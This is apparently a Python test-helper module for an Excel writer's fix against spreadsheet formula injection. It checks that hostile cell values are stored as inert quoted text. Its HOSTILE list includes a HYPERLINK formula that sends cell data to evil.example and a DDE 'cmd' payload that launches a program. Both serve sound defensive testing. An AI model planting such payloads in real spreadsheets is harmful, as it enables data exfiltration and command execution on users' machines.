"""Hostile cell texts for the Excel writers' tests (issue 11: formula injection), and the
checks that a written workbook holds them as plain, unchanged text."""

import csv
import io
import shutil
import subprocess
from pathlib import Path

from openpyxl import load_workbook

# What a citizen may type as a name, an address or a subject. Each would be a live formula,
# an error value, or a formula after editing, if written as openpyxl parses strings.
HOSTILE = (
    "=1+1",
    '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+84 đường =1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "#N/A",
)


def cells_by_value(workbook_file: bytes | Path, texts) -> dict[str, list]:
    """The cells of every sheet whose value is one of `texts`, by text."""
    source = io.BytesIO(workbook_file) if isinstance(workbook_file, bytes) else workbook_file
    found: dict[str, list] = {text: [] for text in texts}
    for sheet in load_workbook(source).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value in found:
                    found[cell.value].append(cell)
    return found


def formulas(workbook_file: bytes | Path) -> list[str]:
    """Coordinates of the cells written as formulas or error values, in every sheet."""
    source = io.BytesIO(workbook_file) if isinstance(workbook_file, bytes) else workbook_file
    return [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in load_workbook(source).worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type in {"f", "e"}
    ]


def assert_plain_text(workbook_file: bytes | Path, texts) -> None:
    """Each of `texts` is in the workbook, unchanged, as text marked not to be parsed on
    editing when it looks like a formula; no cell at all is a formula or an error."""
    assert formulas(workbook_file) == []
    for text, cells in cells_by_value(workbook_file, texts).items():
        assert cells, f"{text!r} is missing"
        assert all(cell.data_type == "s" for cell in cells), text
        assert all(cell.quotePrefix for cell in cells), text


def libreoffice_csv(workbook: Path, tmp_path: Path) -> list[list[str]]:
    """The first sheet as LibreOffice computes and shows it (headless, CSV in UTF-8)."""
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    assert soffice is not None
    out = tmp_path / "libreoffice"
    subprocess.run(
        [
            soffice,
            f"-env:UserInstallation=file://{tmp_path / 'lo-profile'}",
            "--headless",
            "--convert-to",
            "csv:Text - txt - csv (StarCalc):44,34,76,1",
            "--outdir",
            str(out),
            str(workbook),
        ],
        check=True,
        capture_output=True,
        timeout=120,
    )
    text = (out / f"{workbook.stem}.csv").read_bytes().decode("utf-8")  # keeps a lone CR
    return list(csv.reader(io.StringIO(text, newline="")))


def has_libreoffice() -> bool:
    return bool(shutil.which("soffice") or shutil.which("libreoffice"))
